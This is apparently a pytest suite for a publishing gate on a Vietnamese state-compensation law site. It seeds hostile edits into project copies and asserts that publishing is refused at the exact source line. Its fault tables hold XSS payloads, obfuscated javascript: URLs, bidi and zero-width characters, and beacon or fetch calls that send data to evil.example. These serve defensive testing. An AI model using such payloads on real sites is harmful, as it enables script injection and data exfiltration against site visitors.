"""Content faults: a hostile or careless edit is refused at its source line, and nothing goes out.

Table-driven (issue 12): each fault edits a throw-away copy of the project,
runs the real ``publish`` into a folder holding a previously published site,
and asserts the exit code, the exact ``path:line`` of the message, no
traceback, the old site byte-identical and no leftovers beside it.

Most faults are caught before the build (``source`` checks of lawsite.gate,
fractions of a second each). Faults only visible in the built output
(templates, stylesheets, scripts, assets, ids) are seeded together into one
project and built once; each still has its own test and its own location.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import os
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

import publish

ROOT = Path(__file__).resolve().parents[2]
SITE_URL = "https://portal.example.gov.vn/boi-thuong-nha-nuoc/"
PAGE = "docs/gioi-thieu/quy-uoc.md"
FAQ = "docs/hoi-dap/thoi-hieu.md"
LAW = "sources/luat-10-2017-qh14.md"
DECREE = "sources/nd-68-2018.md"
CIRCULAR = "sources/tt-04-2018-tt-btp.md"
LETTER = "sources/cong-van-628-BTP-BTNN-2024.md"
CSS = "docs/assets/stylesheets/site.css"
JS = "docs/assets/javascripts/copy-cite.js"
TEMPLATE = "overrides/main.html"
IGNORE = shutil.ignore_patterns(".venv", ".git", "site", "node_modules", ".pytest_cache", ".ruff_cache",
                                ".hypothesis", "__pycache__", "*.egg-info", "reports")
EXIT_CONTENT = 1
NL = b"\n"


# --------------------------------------------------------------------------
# Seeding helpers: each returns the "path:line" where the fault must be reported
# --------------------------------------------------------------------------


def _put(path: Path, data: str | bytes) -> None:
    """Write a new file in place of ``path``: project copies share unchanged files with the template (hard links)."""
    path.unlink(missing_ok=True)
    if isinstance(data, bytes):
        path.write_bytes(data)
    else:
        path.write_text(data, encoding="utf-8")


def _line_of(text: str, needle: str) -> int:
    at = text.index(needle)
    return text.count("\n", 0, at) + 1


def append(rel: str, snippet: str, at: str | None = None) -> Callable[[Path], str]:
    """Append a paragraph to a file; the fault is on its first line (or on the line of ``at``)."""
    def apply(project: Path) -> str:
        path = project / rel
        body = path.read_text(encoding="utf-8").rstrip("\n") + "\n\n"
        _put(path, body + snippet + "\n")
        extra = snippet[: snippet.index(at)].count("\n") if at else 0
        return f"{rel}:{body.count(chr(10)) + 1 + extra}:"
    return apply


def replace(rel: str, old: str, new: str, at: str | None = None, count: int = 1) -> Callable[[Path], str]:
    """Replace text in a file; the fault is on the line of ``at`` (default: of ``new``) after the edit."""
    def apply(project: Path) -> str:
        path = project / rel
        text = path.read_text(encoding="utf-8")
        assert old in text, f"{old!r} not in {rel}"
        text = text.replace(old, new, count)
        _put(path, text)
        return f"{rel}:{_line_of(text, at if at is not None else new)}:"
    return apply


def delete_lines(rel: str, first: str, n: int) -> Callable[[Path], str]:
    """Delete ``n`` lines starting at the line that begins with ``first``; the fault is where they were."""
    def apply(project: Path) -> str:
        path = project / rel
        lines = path.read_text(encoding="utf-8").split("\n")
        i = next(k for k, ln in enumerate(lines) if ln.startswith(first))
        del lines[i:i + n]
        _put(path, "\n".join(lines))
        return f"{rel}:{i + 1}:"
    return apply


def write(rel: str, content: str | bytes, where: str) -> Callable[[Path], str]:
    def apply(project: Path) -> str:
        path = project / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        _put(path, content)
        return where
    return apply


def delete(rel: str, where: str) -> Callable[[Path], str]:
    def apply(project: Path) -> str:
        (project / rel).unlink()
        return where
    return apply


def bytes_in(rel: str, old: bytes, new: bytes) -> Callable[[Path], str]:
    def apply(project: Path) -> str:
        path = project / rel
        data = path.read_bytes()
        at = data.index(old)
        _put(path, data.replace(old, new, 1))
        return f"{rel}:{data.count(NL, 0, at) + 1}:"
    return apply


@dataclass(frozen=True)
class Fault:
    id: str
    kind: str
    seed: Callable[[Path], str]
    says: str
    """A fragment the message must contain."""


def raw(id: str, snippet: str, says: str, at: str | None = None) -> Fault:
    return Fault(id, "raw-html", append(PAGE, snippet, at), says)


BEFORE_BUILD: list[Fault] = [
    # --- raw HTML and links in a hand-written page (lawsite.gate.rawhtml) ---
    raw("script", "<script>alert(1)</script>", "element <script>"),
    raw("script-src", '<script src="https://cdn.example.com/x.js"></script>', "element <script>"),
    raw("img-onerror", '<img src="x" onerror="alert(1)">', "element <img>"),
    raw("img-slash-syntax", "<img/src=x/onerror=alert(1)>", "element <img>"),
    raw("javascript-md-link", "[bấm vào đây](javascript:alert(1))", "'javascript:' URL"),
    raw("javascript-a", '<a href="javascript:alert(1)">bấm</a>', "'javascript:' URL"),
    raw("javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">bấm</a>', "'javascript:' URL"),
    raw("javascript-entity", '<a href="&#106;avascript:alert(1)">bấm</a>', "'javascript:' URL"),
    raw("javascript-tab", '<a href="java\tscript:alert(1)">bấm</a>', "'javascript:' URL"),
    raw("javascript-ref-def", "[trang]: javascript:alert(1)", "'javascript:' URL"),
    raw("javascript-autolink", "<javascript:alert(1)>", "'javascript:' URL"),
    raw("vbscript-a", '<a href="vbscript:msgbox(1)">x</a>', "'vbscript:' URL"),
    raw("data-md-link", "[x](data:text/html;base64,PHNjcmlwdD4=)", "'data:' URL"),
    raw("data-a", '<a href="data:text/html,<b>x</b>">x</a>', "'data:' URL"),
    raw("onclick", '<span onclick="alert(1)">bấm</span>', "event-handler attribute 'onclick'"),
    raw("onclick-upper", '<span ONCLICK="alert(1)">bấm</span>', "event-handler attribute 'onclick'"),
    raw("onmouseover-div", '<div onmouseover="alert(1)" markdown>\nChữ\n</div>', "event-handler attribute 'onmouseover'"),
    raw("ontoggle-details", "<details ontoggle=alert(1) open><summary>x</summary>y</details>",
        "event-handler attribute 'ontoggle'"),
    raw("onfocus-input", "<input onfocus=alert(1) autofocus>", "event-handler attribute 'onfocus'"),
    raw("onkeyup-textarea", '<textarea onkeyup="x()"></textarea>', "event-handler attribute 'onkeyup'"),
    raw("svg-onload", "<svg onload=alert(1)></svg>", "element <svg>"),
    raw("srcset", '<img srcset="https://evil.example/a.png 2x">', "element <img>"),
    raw("picture-source", '<picture><source srcset="https://evil.example/a.webp"></picture>', "element <picture>"),
    raw("style-url", '<span style="background:url(https://evil.example/x.png)">x</span>', "style with url()"),
    raw("style-url-upper", "<span style=\"background-image: URL( 'https://evil.example/x' )\">x</span>", "style with url()"),
    raw("style-import", "<span style=\"@import 'https://evil.example/x.css'\">x</span>", "style with url()"),
    raw("style-image-set", '<span style="background:image-set(\'https://e.example/x\' 1x)">x</span>', "style with url()"),
    raw("object-data", '<object data="https://evil.example/x.swf"></object>', "element <object>"),
    raw("embed", '<embed src="https://evil.example/x.swf">', "element <embed>"),
    raw("iframe", '<iframe src="https://evil.example/"></iframe>', "element <iframe>"),
    raw("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "element <meta>"),
    raw("style-element-import", "<style>@import url(https://evil.example/x.css);</style>", "element <style>"),
    raw("style-element-url", "<style>body{background:url(https://evil.example/x)}</style>", "element <style>"),
    raw("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">', "element <link>"),
    raw("link-preload", '<link rel="preload" as="image" href="https://evil.example/x.png">', "element <link>"),
    raw("base", '<base href="https://evil.example/">', "element <base>"),
    raw("svg-use", '<svg><use href="https://evil.example/x.svg#a"/></svg>', "element <svg>"),
    raw("svg-image", '<svg><image href="https://evil.example/x.png"/></svg>', "element <svg>"),
    raw("video", '<video src="https://evil.example/x.mp4"></video>', "element <video>"),
    raw("audio", '<audio src="https://evil.example/x.mp3"></audio>', "element <audio>"),
    raw("track", '<track src="https://evil.example/x.vtt">', "element <track>"),
    raw("form-action", '<form action="https://evil.example/collect"><input name="q"></form>', "attribute 'action'"),
    raw("button-formaction", '<button type="button" formaction="https://evil.example/">x</button>',
        "attribute 'formaction'"),
    raw("button-submit", "<button>Gửi</button>", "would submit"),
    raw("input-image", '<input type="image" src="https://evil.example/x.png">', '<input type="image">'),
    raw("input-submit", '<input type="submit">', '<input type="submit">'),
    raw("template", "<template><img src=x></template>", "element <template>"),
    raw("noscript", "<noscript><img src=x></noscript>", "element <noscript>"),
    raw("frameset", "<frameset><frame src=x></frameset>", "element <frameset>"),
    raw("applet", '<applet code="x"></applet>', "element <applet>"),
    raw("marquee", "<marquee>x</marquee>", "element <marquee>"),
    raw("a-ping", '<a href="https://vbpl.vn/" ping="https://evil.example/p">vbpl</a>', "attribute 'ping'"),
    raw("attr-list-onclick", 'Đoạn văn.\n{ onclick="alert(1)" }', "event-handler attribute 'onclick'", at="{"),
    raw("attr-list-style-url", "Đoạn văn.\n{: style=\"background:url(https://evil.example/x)\" }", "style with url()", at="{"),
    raw("attr-list-src", 'Đoạn văn.\n{: src="https://evil.example/x" }', "attribute 'src'", at="{"),
    raw("md-image-remote", "![ảnh](https://evil.example/x.png)", "image from another origin"),
    raw("md-image-data", "![ảnh](data:image/png;base64,AAAA)", "'data:' URL"),
    raw("md-image-protocol-relative", "![ảnh](//evil.example/x.png)", "another origin"),
    raw("root-relative-md-link", "[trang khác](/trang-khac/)", "root-relative URL"),
    raw("root-relative-a", '<a href="/trang-khac/">trang khác</a>', "root-relative URL"),
    raw("protocol-relative-a", '<a href="//evil.example/">x</a>', "protocol-relative URL"),
    Fault("snippet-script", "raw-html", append("includes/thuat-ngu.md", "<script>alert(1)</script>"), "element <script>"),
    Fault("faq-onclick", "raw-html", append(FAQ, '<span onclick="x()">x</span>'), "event-handler attribute"),
    # --- invisible characters and encoding (lawsite.gate.text) ---
    Fault("zero-width-space", "text", replace(FAQ, "yêu cầu bồi thường", "yêu cầu bồi\u200bthường", at="bồi\u200bthường"),
          "U+200B ZERO WIDTH SPACE"),
    Fault("zero-width-joiner", "text", replace(PAGE, "Điều", "Đi\u200dều", at="Đi\u200dều"), "U+200D ZERO WIDTH JOINER"),
    Fault("word-joiner", "text", replace(PAGE, "Điều", "Điều\u2060", at="Điều\u2060"), "U+2060 WORD JOINER"),
    Fault("bom-inside", "text", replace(FAQ, "thời hiệu", "thời\ufeffhiệu", at="thời\ufeffhiệu"), "U+FEFF"),
    Fault("soft-hyphen", "text", replace(FAQ, "thời hiệu", "thời hi\u00adệu", at="thời hi\u00adệu"), "U+00AD SOFT HYPHEN"),
    Fault("bidi-override", "text", append(PAGE, "Số tiền \u202e0001\u202c đồng."), "U+202E"),
    Fault("control-char", "text", append(PAGE, "Chữ\x07 lạ."), "U+0007"),
    Fault("zwsp-in-data", "text", replace("data/van-ban-huong-dan.yml", "Điều 23", "Điều\u200b 23", at="Điều\u200b 23"),
          "U+200B"),
    Fault("invalid-utf8-page", "text", bytes_in(PAGE, "Điều".encode(), b"\xff\xfe"), "not valid UTF-8"),
    # --- ids (lawsite.gate.anchors) ---
    Fault("duplicate-heading-id", "anchors", append(FAQ, "## Câu hỏi lặp mã { #thoi-hieu-bao-lau }\n\nTrả lời.\n\n"
                                                         "**Căn cứ:** [[khoản 1 Điều 6]]."), "already used"),
    Fault("duplicate-attr-id", "anchors", append(PAGE, "## Một { #mot }\n\n## Hai { #mot }", at="## Hai"), "already used"),
    # --- FAQ numbers (lawsite.gate.faq_numbers) ---
    Fault("faq-number-not-in-clause", "faq-numbers",
          replace(FAQ, "**Căn cứ:** [[khoản 1 Điều 6]]; [[khoản 2 Điều 6]]; [[khoản 2 Điều 52]].",
                  "Bạn có 30 ngày để bổ sung.\n\n**Căn cứ:** [[khoản 1 Điều 6]]; [[khoản 2 Điều 6]]; [[khoản 2 Điều 52]].",
                  at="Bạn có 30 ngày"), "'30' is not in what this answer cites"),
    Fault("faq-heading-number", "faq-numbers", replace(FAQ, "## Quá 03 năm có", "## Quá 04 năm có"), "'04' is not in"),
]


def law(id: str, seed: Callable[[Path], str], says: str) -> Fault:
    return Fault(id, "sources", seed, says)


SOURCES: list[Fault] = [
    law("law-03-to-05-years", replace(LAW, "Thời hiệu yêu cầu bồi thường là 03 năm", "Thời hiệu yêu cầu bồi thường là 05 năm"),
        "khoản 1 Điều 6 differs from sources/MANIFEST.json: «bồi thường là 03 năm kể từ» → «bồi thường là 05 năm kể từ»"),
    law("law-delete-two-lines", delete_lines(LAW, "4. Người yêu cầu bồi thường có nghĩa vụ chứng minh", 2),
        "khoản 4 Điều 6 was removed"),
    law("law-delete-clause", replace(LAW, "\n\n4. Người yêu cầu bồi thường có nghĩa vụ chứng minh khoảng thời gian",
                                     "\n\nNgười yêu cầu bồi thường có nghĩa vụ chứng minh khoảng thời gian",
                                     at="Người yêu cầu bồi thường có nghĩa vụ chứng minh khoảng"),
        "điểm b khoản 3 Điều 6 (đoạn 1) is not in"),
    law("law-rename-article", replace(LAW, "#### Điều 6. Thời hiệu yêu cầu bồi thường", "#### Điều 6. Thời hạn yêu cầu bồi thường"),
        "Điều 6 (tên điều) differs"),
    law("law-edit-point", replace(LAW, "a) Khoảng thời gian có sự kiện bất khả kháng", "a) Khoảng thời gian có sự kiện bất thường"),
        "điểm a khoản 3 Điều 6 differs"),
    law("law-insert-point", replace(LAW, "\n\n4. Người yêu cầu bồi thường có nghĩa vụ chứng minh",
                                    "\n\nc) Khoảng thời gian khác.\n\n4. Người yêu cầu bồi thường có nghĩa vụ chứng minh",
                                    at="c) Khoảng thời gian khác."), "điểm c khoản 3 Điều 6 is not in"),
    law("law-chapter-title", replace(LAW, "## Chương II\n\n", "## Chương II\n\nX", at="XPHẠM"), "Chương II (tên chương)"),
    law("law-front-matter", replace(LAW, "so_hieu: 10/2017/QH14", "so_hieu: 11/2017/QH14", at="---"), "front matter"),
    law("law-whitespace", replace(LAW, "Thời hiệu yêu cầu bồi thường là 03 năm", "Thời hiệu yêu cầu bồi thường là  03 năm"),
        "khoản 1 Điều 6"),
    law("law-delete-article", delete_lines(LAW, "#### Điều 6. Thời hiệu yêu cầu bồi thường", 1),
        "«#### Điều 6. Thời hiệu yêu cầu bồi thường» → «∅»"),
    law("decree-sentence", replace(DECREE, "#### Điều 13. Thụ lý hồ sơ yêu cầu bồi thường",
                                   "#### Điều 13. Thụ lý hồ sơ yêu cầu bồi thường nhanh"), "Điều 13 (tên điều)"),
    law("decree-word", replace(DECREE, "tại cơ quan trực tiếp quản lý", "tại cơ quan gián tiếp quản lý",
                               at="gián tiếp"), "Điều"),
    law("circular-sentence", replace(CIRCULAR, "Thông tư này ban hành một số biểu mẫu", "Thông tư này ban hành các biểu mẫu"),
        "Điều 1 (đoạn 1) differs"),
    law("letter-source", replace(LETTER, "BỘ TƯ PHÁP", "BỘ TƯ PHÁP X", at="BỘ TƯ PHÁP X"), "differs from sources/MANIFEST.json"),
    law("provenance-edit", append("sources/PROVENANCE.md", "Thêm một dòng."), "differs from sources/MANIFEST.json"),
    law("unrecorded-source", write("sources/nd-99-2030.md", "# X\n", "sources/nd-99-2030.md:1:"), "not in sources/MANIFEST.json"),
    law("manifest-missing", delete("sources/MANIFEST.json", "sources/MANIFEST.json:1:"), "manifest of the source texts is missing"),
    law("manifest-broken-json", replace("sources/MANIFEST.json", '"files": {', '"files": {,', at='"files": {,'),
        "not valid JSON"),
    law("source-file-deleted", delete(CIRCULAR, "sources/MANIFEST.json:1:"), "recorded in the manifest but missing"),
    law("law-invalid-utf8", bytes_in(LAW, "Thời hiệu yêu cầu bồi thường là 03".encode(), b"\xc3\x28"), "not valid UTF-8"),
]

ALL_BEFORE = BEFORE_BUILD + SOURCES


# --------------------------------------------------------------------------
# Fixtures: the project once (with a git history, as a clone has), the live site once
# --------------------------------------------------------------------------


def _digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "dir"
            for p in sorted(folder.rglob("*"))}


@pytest.fixture(scope="session")
def template(tmp_path_factory) -> Path:
    dest = tmp_path_factory.mktemp("gate-template") / "project"
    shutil.copytree(ROOT, dest, ignore=IGNORE)
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.invalid",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.invalid"}
    for cmd in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "snapshot"]):
        subprocess.run(["git", "-C", str(dest), *cmd], check=True, env=env, capture_output=True)
    return dest


@pytest.fixture(scope="session")
def live(template, tmp_path_factory) -> tuple[Path, dict[str, str], str]:
    """The site as published from the pristine project; every failed publish must leave it as it is."""
    out = tmp_path_factory.mktemp("gate-live") / "site"
    code, output = _publish_captured(template, out)
    assert code == 0, output
    return out, _digest(out), output


def _project(template: Path, tmp_path: Path) -> Path:
    dest = tmp_path / "project"
    shutil.copytree(template, dest, symlinks=True, copy_function=os.link)
    return dest


def _publish_captured(project: Path, out: Path) -> tuple[int, str]:
    """Publish with its output captured (for fixtures wider than one test)."""
    err, std = io.StringIO(), io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(std):
        try:
            code = publish.main(["--root", str(project), "--out", str(out), "--site-url", SITE_URL])
        except SystemExit as e:
            code = e.code
    return code, err.getvalue() + std.getvalue()


def _publish(project: Path, out: Path, capsys) -> tuple[int, str]:
    try:
        code = publish.main(["--root", str(project), "--out", str(out), "--site-url", SITE_URL])
    except SystemExit as e:  # a clean exit is fine; anything else escapes as a traceback and fails the test
        code = e.code
    captured = capsys.readouterr()
    return code, captured.err + captured.out


def _assert_refused(code: int, output: str, where: str, says: str, live) -> None:
    out, digest, _ = live
    assert code == EXIT_CONTENT, output
    assert "Traceback" not in output, output
    lines = [ln for ln in output.splitlines() if ln.startswith(where)]
    assert lines, f"no message at {where}:\n{output}"
    assert any(says in ln for ln in lines), f"{where} message lacks {says!r}:\n{output}"
    assert _digest(out) == digest, "the published site changed"
    leftovers = sorted(p.name for p in out.parent.iterdir() if p.name not in (out.name, f"{out.name}.releases"))
    assert leftovers == [], leftovers
    releases = out.parent / f"{out.name}.releases"  # publish's release folders: no build left behind
    assert not [p.name for p in releases.iterdir() if p.name.startswith(".build-")] if releases.is_dir() else True


@pytest.mark.parametrize("fault", ALL_BEFORE, ids=[f"{f.kind}:{f.id}" for f in ALL_BEFORE])
def test_fault_is_refused_before_the_build(fault: Fault, template, live, tmp_path, capsys):
    project = _project(template, tmp_path)
    where = fault.seed(project)
    code, output = _publish(project, live[0], capsys)
    _assert_refused(code, output, where, fault.says, live)


def test_fault_ids_are_distinct():
    ids = [f.id for f in ALL_BEFORE + AFTER_BUILD]
    assert len(ids) == len(set(ids))


# --------------------------------------------------------------------------
# Faults only the built output shows: seeded together, built once
# --------------------------------------------------------------------------


def _css(rule: str, says: str, id: str) -> Fault:
    return Fault(id, "origins", append(CSS, rule), says)


def _js(code: str, says: str, id: str) -> Fault:
    return Fault(id, "origins", append(JS, code), says)


def _tpl(html: str, says: str, id: str) -> Fault:
    """Added at the end of the extrahead block, after the faults seeded before it (their lines stay put)."""
    return Fault(id, "origins", replace(TEMPLATE, "{% endblock %}", html + "\n{% endblock %}", at=html), says)


AFTER_BUILD: list[Fault] = [
    _css('@import url("https://evil.example/x.css");', "stylesheet loads https://evil.example/x.css", "css-import-url"),
    _css("@import 'https://evil.example/y.css';", "stylesheet loads https://evil.example/y.css", "css-import-string"),
    _css(".md-header { background: url(https://evil.example/bg.png); }", "stylesheet loads https://evil.example/bg.png",
         "css-url"),
    _css(".md-footer { background: url('//evil.example/f.png'); }", "another origin", "css-url-protocol-relative"),
    _css(".md-tabs { background: url(/khac/t.png); }", "outside the site's sub-path", "css-url-root-relative"),
    _js('fetch("https://evil.example/collect?u=" + location.href);', "script loads https://evil.example/collect", "js-fetch"),
    _js('new Image().src = "//evil.example/pixel.gif";', "script loads //evil.example/pixel.gif", "js-pixel"),
    _js('fetch("/api/log");', "outside the site's sub-path", "js-root-relative-fetch"),
    _js("navigator.sendBeacon(`https://evil.example/b`, '');", "script loads https://evil.example/b", "js-beacon-template"),
    _tpl('<script src="https://cdn.example.com/x.js"></script>', "loads https://cdn.example.com/x.js", "template-script"),
    _tpl('<link rel="stylesheet" href="https://cdn.example.com/x.css">', "loads https://cdn.example.com/x.css",
         "template-stylesheet"),
    _tpl('<meta http-equiv="refresh" content="5;url=https://evil.example/">', "<meta refresh>", "template-meta-refresh"),
    _tpl('<style>@import "https://evil.example/s.css";</style>', "<style> loads https://evil.example/s.css",
         "template-style-import"),
    _tpl("<script>fetch('https://evil.example/t')</script>", "inline script loads https://evil.example/t",
         "template-inline-fetch"),
    _tpl('<link rel="icon" href="https://evil.example/favicon.ico">', "loads https://evil.example/favicon.ico",
         "template-icon"),
    _tpl('<link rel="manifest" href="https://evil.example/m.webmanifest">', "loads https://evil.example/m.webmanifest",
         "template-manifest-link"),
    _tpl('<img hidden alt="" src="x.png" srcset="https://evil.example/a.png 2x">', "srcset> loads https://evil.example/a.png",
         "template-srcset"),
    _tpl('<object data="https://evil.example/o.swf"></object>', "loads https://evil.example/o.swf", "template-object"),
    _tpl('<div onclick="track()"></div>', "event-handler attribute 'onclick'", "template-onclick"),
    _tpl('<a href="/trang-khac/">x</a>', "leaves the site's sub-path", "template-root-relative-link"),
    _tpl('<a href="javascript:void(0)">x</a>', "'javascript:' URL", "template-javascript-link"),
    _tpl('<span style="background:url(https://evil.example/st.png)"></span>', "style on <span> loads", "template-style-attr"),
    Fault("svg-asset-href", "origins",
          write("docs/assets/evil.svg", '<svg xmlns="http://www.w3.org/2000/svg">\n<image href="https://evil.example/i.png"/>\n</svg>\n',
                "docs/assets/evil.svg:2:"), "loads https://evil.example/i.png"),
    Fault("webmanifest-icon", "origins",
          write("docs/site.webmanifest", '{"name": "x", "icons": [{"src": "https://evil.example/icon.png"}]}\n',
                "docs/site.webmanifest:1:"), "web manifest points to https://evil.example/icon.png"),
    Fault("extra-css-remote", "origins",
          replace("mkdocs.yml", "extra_css:\n", "extra_css:\n  - https://cdn.example.com/extra.css\n",
                  at="https://cdn.example.com/extra.css"), "loads https://cdn.example.com/extra.css"),
]


@pytest.fixture(scope="module")
def after_build(template, live, tmp_path_factory):
    project = _project(template, tmp_path_factory.mktemp("gate-after"))
    where = {f.id: f.seed(project) for f in AFTER_BUILD}
    code, output = _publish_captured(project, live[0])
    return code, output, where


@pytest.mark.parametrize("fault", AFTER_BUILD, ids=[f"{f.kind}:{f.id}" for f in AFTER_BUILD])
def test_fault_is_refused_after_the_build(fault: Fault, after_build, live):
    code, output, where = after_build
    _assert_refused(code, output, where[fault.id], fault.says, live)


def test_clean_project_publishes_and_lists_offsite_links(live):
    assert "off-origin links (navigation only):" in live[2], live[2]
